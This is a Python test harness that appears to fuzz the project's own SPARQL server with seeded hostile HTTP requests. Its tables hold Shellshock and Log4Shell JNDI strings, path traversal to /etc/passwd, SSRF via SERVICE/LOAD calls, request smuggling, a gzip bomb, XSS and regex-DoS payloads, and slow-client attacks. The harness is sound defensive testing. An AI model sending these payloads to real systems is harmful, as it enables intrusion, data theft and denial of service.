"""Malicious requests, reproducible by a seed, and a function that sends them."""

from __future__ import annotations

import gzip
import random
import re
import socket
import time
from collections.abc import Callable, Sequence
from contextlib import suppress
from itertools import pairwise
from random import Random
from typing import Final, NamedTuple
from urllib.parse import quote, quote_from_bytes, urlencode

from protocol_read import DIRECT, FORM

from aborting import aborting_query
from real_sources import ROOT

ENDLESS: Final = (
    "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }",
    "SELECT (COUNT(*) AS ?n) { "
    + " ".join(f"VALUES ?v{n} {{ 0 1 2 3 4 5 6 7 8 9 }}" for n in range(12))
    + " }",
    "SELECT * { ?a ?b ?c . ?d ?e ?f } ORDER BY ?f",
    "ASK { ?a (!<urn:a>)* ?b . ?c (!<urn:a>)* ?d FILTER(?a = ?d && ?b = 1) }",
    "CONSTRUCT { ?a ?b ?f } { ?a ?b ?c . ?d ?e ?f }",
)
GREEDY: Final = (
    "SELECT (STRLEN(?s30) AS ?n) { BIND('aaaa' AS ?s0) "
    + " ".join(f"BIND(CONCAT(?s{n}, ?s{n}) AS ?s{n + 1})" for n in range(30))
    + " }",
    "SELECT (GROUP_CONCAT(?c) AS ?n) { ?a ?b ?c . ?d a ?e }",
    "SELECT DISTINCT ?a ?c ?d ?f { ?a ?b ?c . ?d ?e ?f }",
    "SELECT ?a ?d (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f } GROUP BY ?a ?d",
)
CALLS: Final = (
    "SELECT * { SERVICE <CANARY> { ?s ?p ?o } }",
    "SELECT * { SERVICE SILENT <CANARY> { ?s ?p ?o } }",
    "SELECT * { VALUES ?u { <CANARY> } SERVICE ?u { ?s ?p ?o } }",
    "PREFIX : <CANARY> SELECT * { SERVICE:x { ?s ?p ?o } }",
    "PREFIX : <CANARY> SELECT * { ?a ?b trueSERVICE:x { ?s ?p ?o } }",
    "SELECT * { VALUES ?a {1} FILTER(?a<2)SERVICE#>\n<CANARY> { ?s ?p ?o } }",
    "SELECT * { VALUES ?a {1} FILTER(?a<2)SERVICE#>\nSILENT <CANARY> { ?s ?p ?o } }",
    "SELECT * { \\u0053ERVICE <CANARY> { ?s ?p ?o } }",
    "SELECT * FROM <CANARY> { ?s ?p ?o }",
    "SELECT * FROM NAMED <file:///etc/passwd> { GRAPH ?g { ?s ?p ?o } }",
    "LOAD <CANARY>",
    "INSERT { ?s ?p ?o } WHERE { SERVICE <CANARY> { ?s ?p ?o } }",
)
PIECES: Final = (
    *("{", "}", "(", ")", "[", "]", "<", ">", "<<(", ")>>", '"', "'", '"""', "\\", "\\u0022"),
    *("\\U0010FFFF", "#", "?", "?x", "$", ":", "_:", "a", ".", ";", ",", "*", "+", "^", "!", "|", "/"),
    *("^^", "@en", "@", "{|", "|}", "SELECT", "WHERE", "FILTER", "OPTIONAL", "UNION", "MINUS", "VALUES"),
    *("BIND", "EXISTS", "GRAPH", "SERVICE", "FROM", "LOAD", "ORDER BY", "GROUP BY", "HAVING", "LIMIT"),
    *("OFFSET", "DISTINCT", "BASE", "PREFIX", "LATERAL", "LIMIT 99999999999999999999", "OFFSET -1"),
    *("1e999999", "-0", "0x10", "9" * 400, "1/0", "UNDEF", "NaN", "\ufeff", "\u2028", "\u00a0", "\u202e"),
    *("\x1b[31m", "\x7f", "\r", "\n", "\t", "\f", "e\u0301" * 50, "\U0001d54aERVICE"),
    *("FILTER(REGEX(?o, '(a+)+$'))", "REPLACE(?o, '', 'x')", "BIND(<urn:f>(?o) AS ?z)"),
    *("STRDT(?o, <urn:t>)", "?s (!<urn:a>)* ?o", "?s (a|^a)+ ?o", "ORDER BY ?o", "SHA512(?o)", "RAND()"),
    *("NOW()", "STRUUID()", "{" * 300, "(" * 300, "!" * 300, "?x " * 300, "UNION {} " * 100, "\\" * 300),
    *("'" * 301, "<" * 300),
)
HEADERS: Final = (
    *("Accept: */*;q=0", "Accept: " + "a/b," * 2000, "Accept: text/csv;q=1.5", 'Accept: text/csv;x="'),
    *("Accept: ,", "Accept: " + "text/csv; " * 2000, 'Accept: "' + "\\" * 5000, "Accept: \xff\xfe"),
    *("Accept: image/png", "Content-Type:", "Content-Type: " + ";" * 5000, 'Content-Type: a/b; c="\\'),
    *("Content-Type: text/turtle", "Content-Encoding: gzip", "Content-Encoding: br, gzip"),
    *("Transfer-Encoding: gzip", "Transfer-Encoding: x", "Content-Length: -1", "Content-Length: 5, 6"),
    *("Content-Length: 1e3", "Content-Length: 99999999999999999999", "X-Forwarded-For: 127.0.0.1"),
    *("X-Forwarded-For: " + "1.1.1.1," * 3000, "Forwarded: for=[::1]", "Via: 1.1 x", "Host: ["),
    *("Host: evil.example:99999999", "X-Forwarded-Host: evil.example", "X-Original-URL: /metrics"),
    *("Expect: 100-continue", "Expect: 999", "Range: bytes=0-0,1-1", "If-None-Match: *", "TE: trailers"),
    *("Trailer: X", "Connection: Upgrade\r\nUpgrade: websocket"),
    *("Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c", "Upgrade: x", "Origin: null"),
    *("Origin: http://evil.example", "Access-Control-Request-Method: PUT", "Cookie: " + "a=b; " * 900),
    *("X: " + "a" * 60_000, "X: a\0b", "X: a\rb", ": x", "X", " folded: x", "X\t: y"),
    *("Authorization: Basic Og==", "Accept-Encoding: gzip;q=1, *;q=0", "User-Agent: () { :;}; /bin/id"),
    "Referer: ${jndi:ldap://x/a}",
)
PATHS: Final = (
    *("/", "/sparql", "/graphs", "/.well-known/void", "/metrics", "/health/ready", "/health/live", "*"),
    *("//", "/.", "/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/sparql/", "/sparql;a=b"),
    *("/sparql%00", "/%ff%fe", "/%", "http://CANARY_HOST/", "CANARY_HOST", "/graphs?graph=CANARY"),
    *("/graphs?graph=file:///etc/passwd", "/graphs?default", "/graphs?" + "&".join("abcdefghijkl")),
    *("/graphs?graph=%ED%A0%80", "/graphs?default&graph=urn:a", "/" + "a" * 60_000, "/?" + "a=b&" * 3000),
    *("/sparql?query", "/sparql?query=", "/sparql?update=DROP+ALL", "/$/ping", "/.git/HEAD"),
    *("/id/agency/europol", "/id/agency/europol.html", "/id/agency/europol%3E%20%3CCANARY%3E%20%3C"),
    *("/id/" + "%2e%2e/" * 100, "/ontology.rdf", "/graph/evidence/jhaan-2023", "/query/" + "a" * 60_000),
    *("/questions", "/questions/empact-co-run.xlsx?cite=yes", "/questions/empact-co-run?agency=CANARY"),
    "/questions/agency-events.html?agency=" + "%22%3E%3Cscript%3E" * 500,
    *("/questions/compare-years.csv?year=" + "9" * 5000, "/questions/..%2f..%2fetc%2fpasswd"),
    *("/questions/why?" + "thing=a&" * 900, "/search?q=frontx", "/search?q=" + "ab " * 3000),
    *("/search?q=%ED%A0%80", "/search?q=CANARY", "/read/jhaan-2023/11.2"),
    *("/read/jhaan-2023/..%2f..%2fetc%2fpasswd", "/contradictions.html", "/gaps?q=CANARY", "/proof"),
    *("/downloads/jhaan.ics", "/downloads/..%2fjhaan.ics", "/sparql.html?query=ASK%7B%7D"),
    "/sparql.html?query=%3C/textarea%3E%3Cscript%3E",
    "/sparql.html?query=SELECT%20*%20%7B%20?s%20?p%20?o%20%7D",
    "/sparql.csv?query=SELECT%20*%20%7B%20SERVICE%20%3CCANARY%3E%20%7B%7D%20%7D",
    *("/sparql.%00?query=ASK%7B%7D", "/sparql.html?example=%22%3E", "/openapi.json"),
)
METHODS: Final = (
    *("GET", "POST", "HEAD", "OPTIONS", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "get", "X" * 300),
)
PROTOCOLS: Final = (
    *("HTTP/1.1", "HTTP/1.1", "HTTP/1.1", "HTTP/1.0", "HTTP/0.9", "HTTP/2.0", "HTTP/1.1.1", "FTP/1.1"),
    "",
)


class Hostile(NamedTuple):
    """A malicious request.

    Attributes:
        number: its number, which identifies it together with the seed.
        kind: the kind of attack.
        pieces: the pieces of bytes to send.
        pause: the seconds between the pieces.
        stays: whether the client waits for the answer.
    """

    number: int
    kind: str
    pieces: tuple[bytes, ...]
    pause: float = 0
    stays: bool = True

    def __str__(self) -> str:
        begun = [repr(piece if len(piece) < 600 else piece[:600] + b"...") for piece in self.pieces[:4]]
        return f"request {self.number} ({self.kind}, {len(self.pieces)} pieces): {' '.join(begun)}"


class Outcome(NamedTuple):
    """The outcome of a request.

    Attributes:
        status: the status code; 0 if there was none.
        seconds: the duration in seconds.
        ended: whether the server answered or closed the connection, or the client did not wait for that.
        seen: the beginning of the received data.
    """

    status: int
    seconds: float
    ended: bool
    seen: bytes


class Attacker:
    """Generator of malicious requests."""

    def __init__(self, seed: int, canary: str) -> None:
        """Create a generator.

        Args:
            seed: the seed, which determines all requests.
            canary: an address of this machine, `http://host:port/`, to which attacks try to direct the server.
        """
        self.seed, self._canary = seed, canary
        self._stored = [path.read_text() for path in sorted((ROOT / "queries").rglob("*.rq"))]
        self._kinds: dict[Callable[[Random], tuple[tuple[bytes, ...], float, bool]], int] = {
            self._mutated: 30,
            self._pieced: 12,
            self._reaching: 12,
            self._of_headers: 12,
            self._of_paths: 10,
            self._of_parameters: 8,
            self._of_bodies: 8,
            self._garbage: 5,
            self._abandoned: 6,
            self._slow: 2,
            self._aborting: 2,
            self._large: 1,
            self._endless: 1,
            self._greedy: 1,
        }

    def request(self, number: int) -> Hostile:
        """Return the request with a number; it does not depend on other requests."""
        choose = Random(f"{self.seed}/{number}")
        (make,) = choose.choices(list(self._kinds), list(self._kinds.values()))
        pieces, pause, stays = make(choose)
        return Hostile(number, make.__name__.strip("_").replace("_", " "), pieces, pause, stays)

    # --- queries ---------------------------------------------------------------------------------------------------

    def _mutated(self, choose: Random) -> tuple[tuple[bytes, ...], float, bool]:
        words = re.split(r"(\W)", choose.choice(self._stored))
        for _ in range(choose.randint(1, 6)):
            place = choose.randrange(len(words))
            match choose.randrange(7):
                case 0:
                    del words[place : place + choose.randint(1, 20)]
                case 1:
                    words.insert(place, choose.choice(PIECES))
                case 2:
                    words[place] = choose.choice(PIECES)
                case 3:
                    words[place] = words[place].swapcase()
                case 4:
                    words[place:place] = words[place : place + choose.randint(1, 30)] * choose.randint(1, 5)
                case 5:
                    other = choose.randrange(len(words))
                    words[place], words[other] = words[other], words[place]
                case _:
                    words[place] += chr(choose.randrange(0x20, 0xD800))
            words = words or [""]
        return self._query("".join(words), choose)

    def _pieced(self, choose: Random) -> tuple[tuple[bytes, ...], float, bool]:
        count = choose.randint(1, 30)
        begun = choose.choice(["", "SELECT * { ?s ?p ?o ", "ASK {", "CONSTRUCT WHERE {", "DESCRIBE "])
        return self._query(begun + " ".join(choose.choices(PIECES, k=count)), choose)

    def _reaching(self, choose: Random) -> tuple[tuple[bytes, ...], float, bool]:
        if choose.random() < 0.2:
            name = choose.choice(["default-graph-uri", "named-graph-uri"])
            given = urlencode({"query": "ASK { ?s ?p ?o }", name: self._canary})
            return self._whole(f"GET /sparql?{given} HTTP/1.1", ["Connection: close"])
        text = choose.choice(CALLS)
        if choose.random() < 0.5:
            word = choose.choice(["{", "}", " ", "SERVICE", "FROM", "<", "?s"])
            text = text.replace(word, choose.choice(PIECES) + word, 1)
        return self._query(text.replace("CANARY", self._canary), choose)

    def _endless(self, choose: Random) -> tuple[tuple[bytes, ...], float, bool]:
        return self._query(choose.choice(ENDLESS), choose)

    def _greedy(self, choose: Random) -> tuple[tuple[bytes, ...], float, bool]:
        return self._query(choose.choice(GREEDY), choose)

    def _aborting(self, choose: Random) -> tuple[tuple[bytes, ...], float, bool]:
        return self._query(aborting_query(choose), choose)

    def _query(self, text: str, choose: Random) -> tuple[tuple[bytes, ...], float, bool]:
        data = text.encode(errors="replace")
        if choose.random() < 0.05:
            data = data.replace(b" ", bytes([choose.randrange(256)]), 1)
        accept = choose.choice(["*/*"] * 5 + ["text/csv", "application/ld+json", "text/xml", "text/turtle"])
        headers = [f"Accept: {accept}", "Connection: close"]
        way = choose.randrange(3)
        if way == 0 and len(data) < 15_000:
            version = choose.choice(["1.1", "1.1", "1.0"])
            return self._whole(f"GET /sparql?query={quote_from_bytes(data)} HTTP/{version}", headers)
        body = data if way == 1 else b"query=" + quote_from_bytes(data).encode()
        headers += [f"Content-Type: {DIRECT if way == 1 else FORM}"]
        if choose.random() < 0.2:
            middle = choose.randrange(len(body) + 1)
            chunks = [part for part in (body[:middle], body[middle:]) if part]
            headers += ["Transfer-Encoding: chunked"]
            body = b"".join(b"%x\r\n%b\r\n" % (len(part), part) for part in chunks) + b"0\r\n\r\n"
        else:
            headers += [f"Content-Length: {len(body)}"]
        return self._whole("POST /sparql HTTP/1.1", headers, body)

    # --- HTTP ------------------------------------------------------------------------------------------------------

    def _of_headers(self, choose: Random) -> tuple[tuple[bytes, ...], float, bool]:
        headers = [*choose.choices(HEADERS, k=choose.randint(1, 3)), "Connection: close"]
        if choose.random() < 0.5:
            return self._whole(f"GET /sparql?query={quote('ASK { }')} HTTP/1.1", headers)
        headers += [f"Content-Type: {DIRECT}", "Content-Length: 7"]
        choose.shuffle(headers)
        return self._whole("POST /sparql HTTP/1.1", headers, b"ASK { }")

    def _of_paths(self, choose: Random) -> tuple[tuple[bytes, ...], float, bool]:
        host = self._canary.removeprefix("http://").rstrip("/")
        path = choose.choice(PATHS).replace("CANARY_HOST", host).replace("CANARY", self._canary)
        line = f"{choose.choice(METHODS)} {path} {choose.choice(PROTOCOLS)}"
        return self._whole(line, ["Connection: close"])

    def _of_parameters(self, choose: Random) -> tuple[tuple[bytes, ...], float, bool]:
        names = [
            "query",
            "default-graph-uri",
            "named-graph-uri",
            "update",
            "using-graph-uri",
            "format",
            "graph",
        ]
        names += ["%", ""]
        values = ["ASK{}", "urn:a", "%zz", "%00", "%ff", "%ED%A0%80", "", "=", "a&b", "<x>", "%0d%0aX:y", "ä"]
        values += ["+" * 500]
        pairs = (
            f"{choose.choice(names)}={choose.choice(values)}"
            for _ in range(choose.choice([1, 2, 3, 40, 2000]))
        )
        joined = "&".join(pairs)
        if choose.random() < 0.5:
            return self._whole(f"GET /sparql?{joined} HTTP/1.1", ["Connection: close"])
        body = joined.encode()
        headers = [f"Content-Type: {FORM}", f"Content-Length: {len(body)}", "Connection: close"]
        return self._whole(f"POST /sparql?{joined[:200]} HTTP/1.1".replace("ä", ""), headers, body)

    def _of_bodies(self, choose: Random) -> tuple[tuple[bytes, ...], float, bool]:
        bomb = gzip.compress(b"ASK { }" + b" " * 10_000_000)
        chunk, chunked = b"7\r\nASK { }\r\n0\r\n\r\n", "Transfer-Encoding: chunked"
        cases: Sequence[tuple[list[str], bytes]] = [
            (["Content-Encoding: gzip", f"Content-Length: {len(bomb)}"], bomb),
            ([f"Content-Length: {len(bomb)}"], bomb),
            ([chunked, "Content-Length: 7"], chunk),
            (["Content-Length: 7", chunked], chunk + b"GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n"),
            ([chunked], b"zz\r\nASK { }\r\n0\r\n\r\n"),
            ([chunked], b"-7\r\nASK { }\r\n0\r\n\r\n"),
            ([chunked], b"FFFFFFFFFFFFFFFFF\r\nASK { }\r\n0\r\n\r\n"),
            ([chunked], b"7;" + b"x" * 5000 + b"\r\nASK { }\r\n0\r\n\r\n"),
            ([chunked], b"7\r\nASK { }\r\n0\r\n" + b"X: y\r\n" * 2000 + b"\r\n"),
            ([chunked], b"1\r\nA\r\n" * 3000 + b"0\r\n\r\n"),
            (["Content-Length: 7"], b"ASK { }GET /metrics HTTP/1.1\r\nHost: a\r\n\r\n"),
            (["Content-Length: 99999999999"], b"ASK { }"),
            (["Content-Length: 0"], b""),
            ([], b"ASK { }"),
            (["Content-Length: 4"], b"\xff\xfe\x00\x00"),
            (["Content-Length: 7"], "ASK\u00a0{}".encode("utf-16-le")[:7]),
        ]
        headers, body = choose.choice(cases)
        return self._whole(
            "POST /sparql HTTP/1.1", [f"Content-Type: {DIRECT}", *headers, "Connection: close"], body
        )

    def _large(self, choose: Random) -> tuple[tuple[bytes, ...], float, bool]:
        length = choose.choice([900_000, 1_048_576, 1_048_577, 3_000_000])
        filled = choose.choice([b" ", b"&", b"%41", b"(", b"a", b"'", b"<", b"\n", b"# ", b"?x "])
        body = (b"query=ASK {} " + filled * length)[:length]
        kind = choose.choice([DIRECT, FORM])
        if choose.random() < 0.5:
            headers = [f"Content-Type: {kind}", f"Content-Length: {length}", "Connection: close"]
            return self._whole("POST /sparql HTTP/1.1", headers, body)
        headers = [f"Content-Type: {kind}", "Transfer-Encoding: chunked", "Connection: close"]
        return self._whole("POST /sparql HTTP/1.1", headers, b"%x\r\n%b\r\n0\r\n\r\n" % (length, body))

    def _garbage(self, choose: Random) -> tuple[tuple[bytes, ...], float, bool]:
        data = choose.randbytes(choose.randint(1, 5000))
        if choose.random() < 0.5:
            data = (
                choose.choice(
                    [b"\x16\x03\x01", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"SSH-2.0-x\r\n", b"\0" * 99]
                )
                + data
            )
        return (data + b"\r\n\r\n",), 0, True

    # --- slow and leaving clients ------------------------------------------------------------------------------------

    def _slow(self, choose: Random) -> tuple[tuple[bytes, ...], float, bool]:
        (sent,), _, _ = self._mutated(choose)
        count = choose.randint(2, 12)
        cuts = [0, *sorted(choose.randrange(len(sent)) for _ in range(count)), len(sent)]
        pieces = tuple(sent[begin:end] for begin, end in pairwise(cuts))
        if choose.random() < 0.3:
            return pieces[:-1], 0.2, choose.random() < 0.5
        return pieces, 0.2, True

    def _abandoned(self, choose: Random) -> tuple[tuple[bytes, ...], float, bool]:
        make = choose.choice([self._mutated, self._endless, self._aborting, self._large, self._of_headers])
        (sent,), _, _ = make(choose)
        if choose.random() < 0.5:
            sent = sent[: choose.randrange(len(sent) + 1)]
        if choose.random() < 0.3:
            sent += b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * choose.randint(1, 50)
        return (sent, b""), choose.choice([0, 0, 0.01, 0.05, 0.3]), False

    @staticmethod
    def _whole(
        line: str, headers: Sequence[str] = (), body: bytes = b""
    ) -> tuple[tuple[bytes, ...], float, bool]:
        head = "\r\n".join([line, "Host: localhost", *headers, "", ""])
        return (head.encode(errors="replace") + body,), 0, True


def send(address: tuple[str, int], request: Hostile, patience: float) -> Outcome:
    """Send a request, and return its outcome.

    Args:
        address: the address of the server.
        request: the request.
        patience: the number of seconds after which the server counts as hanging.
    """
    begun, seen, ended = time.monotonic(), bytearray(), True
    with socket.create_connection(address, timeout=patience) as opened:
        with suppress(ConnectionError):
            for piece in request.pieces:
                opened.sendall(piece)
                time.sleep(request.pause)
        try:
            while request.stays and (piece := opened.recv(1 << 16)):
                seen += piece[: 4096 - len(seen)] if len(seen) < 4096 else b""
                opened.settimeout(max(0.01, begun + patience - time.monotonic()))
        except ConnectionError:
            pass
        except TimeoutError:
            ended = False
    found = re.match(rb"(?:HTTP/1\.1 100 [^\r]*\r\n\r\n)?HTTP/1\.1 (\d{3}) ", seen)
    return Outcome(int(found[1]) if found else 0, time.monotonic() - begun, ended, bytes(seen))


if __name__ == "__main__":  # show the requests of a seed
    attacker = Attacker(random.SystemRandom().randrange(1 << 30), "http://127.0.0.1:9/")
    print(f"seed {attacker.seed}", *map(attacker.request, range(20)), sep="\n")  # noqa: T201
